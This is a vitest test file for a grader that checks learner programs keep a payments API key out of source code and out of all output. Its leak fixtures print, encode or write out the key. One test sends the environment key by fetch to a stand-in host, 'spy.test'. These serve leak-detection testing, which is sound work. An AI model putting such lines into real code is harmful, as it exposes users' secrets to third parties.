/**
 * gradeExercise end to end in Node: real learner programs in the Node runtime, graded against the
 * "move the payments key to an environment variable without leaking it" scenario.
 */
import { describe, expect, test } from "vitest";
import { GradingCancelledError, GradingSetupError } from "../../src/grading/index.ts";
import { check, chargeProgram, createGrader, envKeyScenario, SHOWN_KEY, SOLUTION, STARTER } from "./fixtures.ts";

const { grade, network } = createGrader();
const KEY = "process.env.EXTERNAL_API_KEY";

describe("the solution", () => {
  test("passes every check, and the report shows no canary", async () => {
    const report = await grade(envKeyScenario, { "index.ts": SOLUTION });
    expect(report.checks.filter((c) => !c.passed)).toEqual([]);
    expect(report.passed).toBe(true);
    expect(report.checks.map((c) => c.id)).toEqual(["runs", "charged", "key-sent", "no-leak", "no-literal"]);
    expect(check(report, "key-sent")).toMatchObject({ title: "The payments API receives the payments API key as a Bearer token", actual: "1 of 1 request(s) carried it." });
    expect(report.run).toMatchObject({ status: "ok", exitCode: 0, outputTruncated: false });
    expect(report.run?.output).toContain("charged 1999 eur -> succeeded");
    expect(JSON.stringify(report)).not.toMatch(/sk_test_(?!51Fake)[A-Za-z0-9]{8}/);
  });

  test("a masked key showing only the last 4 characters is not a leak", async () => {
    const report = await grade(envKeyScenario, { "index.ts": chargeProgram(KEY, 'console.log(`using key sk_test_****${apiKey.slice(-4)}`);') });
    expect(check(report, "no-leak").passed).toBe(true);
    expect(report.run?.output).toMatch(/using key sk_test_\*\*\*\*[A-Za-z0-9]{4}\n/);
  });
});

describe("the starter (hardcoded key)", () => {
  test("fails the static check with the line, and the API check explains why", async () => {
    const report = await grade(envKeyScenario, { "index.ts": STARTER });
    expect(report.passed).toBe(false);
    const literal = check(report, "no-literal");
    expect(literal.passed).toBe(false);
    expect(literal.leak).toMatchObject({ surface: "source", line: { file: "index.ts", line: 1 }, excerpt: "const apiKey = \"‹payments_key›\";" });
    expect(literal.actual).toContain("index.ts:1 holds a key written into the code");
    const sent = check(report, "key-sent");
    expect(sent.passed).toBe(false);
    expect(sent.actual).toContain("the value shown in the exercise statement");
    // It ran fine, and the shown value is not a canary: nothing leaked.
    expect(check(report, "runs").passed).toBe(true);
    expect(check(report, "no-leak").passed).toBe(true);
  });

  test("a key of the same shape pasted into the code is caught too", async () => {
    const report = await grade(envKeyScenario, { "index.ts": `// my own key: sk_test_51FakeMyOwnKey0000000000\n${SOLUTION}` });
    expect(check(report, "no-literal")).toMatchObject({ passed: false, leak: { line: { file: "index.ts", line: 1 } } });
  });
});

describe("leaks of the env key", () => {
  const leakCases: Array<[string, string, { surface: string; form: string; location?: RegExp }]> = [
    ["printed as is", "console.log('debug', apiKey);", { surface: "stdout", form: "raw" }],
    ["printed in base64", "console.log(Buffer.from(apiKey).toString('base64'));", { surface: "stdout", form: "base64" }],
    ["inside a base64 blob", "console.log(Buffer.from(JSON.stringify({ debug: true, apiKey })).toString('base64'));", { surface: "stdout", form: "base64" }],
    ["printed in hex", "console.log(Buffer.from(apiKey).toString('hex'));", { surface: "stdout", form: "hex" }],
    ["printed reversed", "console.log(apiKey.split('').reverse().join(''));", { surface: "stdout", form: "reversed" }],
    ["split into two console.logs", "console.log(apiKey.slice(0, 16));\nconsole.log(apiKey.slice(16));", { surface: "stdout", form: "split-across-lines" }],
    ["masked badly (only the last 6 hidden)", "console.log(apiKey.slice(0, -6) + '******');", { surface: "stdout", form: "partial" }],
    ["logged to stderr", "console.error('key:', apiKey);", { surface: "stderr", form: "raw" }],
    ["written to a file", "const { writeFileSync } = await import('node:fs');\nwriteFileSync('/tmp/debug.json', JSON.stringify({ apiKey }));", { surface: "files", form: "raw", location: /\/tmp\/debug\.json/ }],
    [
      "sent in the URL query to the payments API",
      "await fetch(`https://api.payments.example/v1/charges?key=${apiKey}`);",
      { surface: "request-url", form: "raw", location: /GET https:\/\/api\.payments\.example\/v1\/charges/ },
    ],
    ["sent in another header", "await fetch('https://api.payments.example/v1/charges', { method: 'POST', headers: { 'x-debug-key': apiKey } });", { surface: "request-headers", form: "raw" }],
    ["sent in a request body", "await fetch('https://api.payments.example/v1/charges', { method: 'POST', body: JSON.stringify({ apiKey }) });", { surface: "request-body", form: "raw" }],
  ];

  test.each(leakCases)("%s", async (_name, extra, expected) => {
    const report = await grade(envKeyScenario, { "index.ts": chargeProgram(KEY, extra) });
    const result = check(report, "no-leak");
    expect(result.passed).toBe(false);
    expect(result.leak).toMatchObject({ surface: expected.surface, form: expected.form, secret: "payments_key" });
    if (expected.location) expect(result.leak?.location).toMatch(expected.location);
    expect(result.leak?.excerpt).toContain("‹payments_key›");
    expect(result.actual).toMatch(/^The payments API key appeared in /);
    // The rest of the exercise still works: only the leak check fails.
    expect(report.checks.filter((c) => !c.passed).map((c) => c.id)).toEqual(["no-leak"]);
    expect(JSON.stringify(report)).not.toMatch(/sk_test_(?!51Fake)[A-Za-z0-9]{8}/);
  });

  test("in an error message: the stack trace points at the learner's line", async () => {
    const program = `const apiKey = process.env.EXTERNAL_API_KEY!;\nfunction connect(key: string) {\n  throw new Error("cannot connect with " + key);\n}\nconnect(apiKey);\n`;
    const report = await grade(envKeyScenario, { "index.ts": program });
    const result = check(report, "no-leak");
    expect(result.leak).toMatchObject({ surface: "stderr", form: "raw", line: { file: "index.ts", line: 3 } });
    expect(result.actual).toContain("(from index.ts:3)");
    expect(result.leak?.excerpt).toContain("cannot connect with ‹payments_key›");
    expect(check(report, "runs")).toMatchObject({ passed: false, actual: "The program ended with an error (exit code 1): Uncaught Error: cannot connect with ‹payments_key›." });
  });
});

describe("a program that does not finish", () => {
  test("a crash still yields a report; the checks that need success say why", async () => {
    const report = await grade(envKeyScenario, { "index.ts": "const key = process.env.EXTERNAL_API_KEY;\nconsole.log(key.toUpperCase().missing.length);\n" });
    expect(report.passed).toBe(false);
    expect(report.run?.status).toBe("error");
    expect(check(report, "runs").actual).toMatch(/^The program ended with an error \(exit code 1\): Uncaught TypeError: /);
    expect(check(report, "key-sent").actual).toMatch(/^The payments API received no request\. The program ended with an error/);
    expect(check(report, "charged").actual).toMatch(/^Not found\. The program printed nothing\. The program ended with an error/);
  });

  test("a syntax error still yields a report", async () => {
    const report = await grade(envKeyScenario, { "index.ts": "const = ;" });
    expect(report.run?.status).toBe("error");
    expect(check(report, "runs").passed).toBe(false);
  });

  // No wall-clock bound here: on a loaded machine the grading around the loop takes longer than the
  // loop's own second. A grading that never stopped the loop would hit the test's timeout and fail.
  test("an infinite loop is stopped at the limit and reported", async () => {
    const report = await grade(envKeyScenario, { "index.ts": "console.log('start');\nwhile (true) {}\n" }, { limits: { timeoutMs: 1000 } });
    expect(report.run?.status).toBe("timeout");
    expect(check(report, "runs").actual).toBe("The program was still running after 1 s and was stopped (an infinite loop, or a timer or watcher left open?).");
  }, 30_000);

  test("output past the cap is cut, reported, and grading still finishes", async () => {
    const report = await grade(envKeyScenario, { "index.ts": `${SOLUTION}\nfor (let i = 0; i < 20000; i++) console.log("x".repeat(99));` }, { limits: { outputCap: 10_000 } });
    expect(report.run?.outputTruncated).toBe(true);
    expect(check(report, "charged").passed).toBe(true);
    expect(check(report, "no-leak").actual).toContain("Output past the size limit was not kept");
  });

  test("an AbortSignal cancels the grading", async () => {
    const controller = new AbortController();
    const grading = grade(envKeyScenario, { "index.ts": "while (true) {}" }, { signal: controller.signal });
    setTimeout(() => controller.abort(), 300);
    await expect(grading).rejects.toBeInstanceOf(GradingCancelledError);
  });
});

describe("canaries", () => {
  test("every grading plants a fresh canary, never the value shown to the learner", async () => {
    const seen: string[] = [];
    network.addHost("spy.test", async (request) => {
      seen.push(new URL(request.url).searchParams.get("k") ?? "");
      return new Response("ok");
    });
    const spy = { "index.ts": "await fetch('https://spy.test/?k=' + process.env.EXTERNAL_API_KEY);" };
    await grade(envKeyScenario, spy);
    await grade(envKeyScenario, spy);
    network.removeHost("spy.test");
    expect(seen).toHaveLength(2);
    for (const value of seen) expect(value).toMatch(/^sk_test_[A-Za-z0-9]{24}$/);
    expect(seen[0]).not.toBe(seen[1]);
    expect(seen).not.toContain(SHOWN_KEY);
  });
});

describe("setup errors", () => {
  test("an invalid scenario is refused with every problem and its path", async () => {
    const broken = { ...envKeyScenario, checks: [{ kind: "api-received-secret", api: "payments", secret: "stripe_key" }] };
    await expect(grade(broken as never, { "index.ts": SOLUTION })).rejects.toThrow(GradingSetupError);
    await expect(grade(broken as never, { "index.ts": SOLUTION })).rejects.toThrow("checks.0.secret: no secret named 'stripe_key' in 'secrets'");
  });
});
